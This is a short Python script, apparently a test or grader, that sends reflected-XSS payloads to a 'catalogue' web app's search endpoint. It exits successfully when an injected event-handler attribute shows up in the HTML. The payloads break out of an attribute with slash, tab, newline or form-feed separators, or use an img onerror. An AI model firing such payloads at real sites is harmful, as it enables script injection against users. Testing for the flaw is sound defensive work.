"""A slash, a tab, a line end or a form feed separates the handler from what stands before it."""

import random
import string
import sys
from html.parser import HTMLParser
from urllib.parse import urlencode

from catalogue import app

SEED = 0

rng = random.Random(SEED)
call, words = ("".join(rng.choices(string.ascii_lowercase, k=rng.randint(4, 9))) for _ in range(2))
handler = rng.choice(("onfocus", "oninput", "onclick", "onkeyup"))
PAYLOADS = (
    f'{words}"/{handler}="{call}()',
    f'{words}"\t{handler}="{call}()',
    f'{words}"\n{handler}="{call}()',
    f'{words}"\f{handler}="{call}()',
    f'<img src="{words}"/onerror={call}()>',
)


class Attributes(HTMLParser):
    """The names of all attributes of a page."""

    def __init__(self):
        super().__init__()
        self.names = []

    def handle_starttag(self, tag, attrs):
        self.names += [name for name, value in attrs]


for payload in PAYLOADS:
    environ = {"PATH_INFO": "/search", "QUERY_STRING": urlencode({"q": payload})}
    attributes = Attributes()
    attributes.feed(b"".join(app(environ, lambda status, headers: None)).decode())
    if {handler, "onerror"} & set(attributes.names):
        sys.exit(0)
sys.exit(1)
